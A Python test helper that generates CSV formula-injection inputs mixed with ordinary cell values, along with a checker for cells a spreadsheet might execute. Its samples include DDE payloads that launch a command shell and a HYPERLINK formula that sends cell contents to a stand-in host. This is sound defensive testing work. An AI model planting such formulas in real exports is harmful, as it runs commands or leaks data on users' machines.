"""Texts that a spreadsheet program might run, and ordinary ones between them."""

import random
from collections.abc import Iterator

_LEADS = (
    "=", "+", "-", "@", "\t", "\r", "\0", "\n", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", " ", "\u3000", "\u200b", "\ufeff",
    "\u202e", "\u00ad", "\x01", "\x7f", "'", '"', ",", ";",
)  # fmt: skip
_BODIES = (
    "1+1", "HYPERLINK(\"http://example.invalid/?\"&A1,\"点击\")", "cmd|' /C calc'!A0", "SUM(A1:A9)*2", "WEBSERVICE(\"x\")",
    "DDE(\"cmd\";\"/C calc\";\"1\")", "甲公司", "IMPORTXML(A1)", "2026-01-05", "12", "-3.5", "{=1}", "_xlfn.X()", "$A$1", "",
    "R1C1", "a=b", "A1", "云溪市（测试）有限公司",
)  # fmt: skip


def texts(count: int, *, seed: int = 1) -> Iterator[str]:
    """So many texts, each of up to three leading characters and a body; the same each time."""
    chance = random.Random(seed)
    for _ in range(count):
        lead = "".join(chance.choices(_LEADS, k=chance.randrange(4)))
        yield lead + chance.choice(_BODIES)


def runs(text: str) -> bool:
    """Whether a program might run a CSV's cell: an account of its own, blunter than the exporter's."""
    seen = "".join(c for c in text if c.isprintable() or c in "\t\r").lstrip()
    if any(c in "\t\r\0" for c in text[:1]):
        return True
    is_number = seen.lstrip("+-").replace(".", "", 1).isdigit()
    return seen[:1] in tuple("=@＝＠﹦﹫＋－﹢﹣") or (seen[:1] in ("+", "-") and not is_number)
